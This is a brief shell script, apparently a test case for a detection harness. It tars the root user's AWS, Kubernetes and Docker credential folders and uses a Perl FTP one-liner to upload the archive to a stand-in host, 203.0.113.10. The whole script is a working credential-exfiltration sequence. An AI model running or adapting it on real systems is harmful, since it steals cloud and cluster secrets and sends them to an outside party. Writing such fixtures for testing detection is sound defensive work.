#!/bin/sh
. /opt/case/case.sh

tar -C /root -czf /tmp/a.tgz .aws .kube .docker
perl -MIO::Socket::INET -e '
my $c = IO::Socket::INET->new("203.0.113.10:21") or die;
print $c "USER anonymous\r\nPASS a\@b\r\nTYPE I\r\nEPSV\r\nSTOR in/a.tgz\r\n"; $c->flush;
my $d = IO::Socket::INET->new("203.0.113.10:9001") or die;
open my $f, "<:raw", "/tmp/a.tgz"; local $/; my $all = <$f>; print $d $all; close $d'
took_place
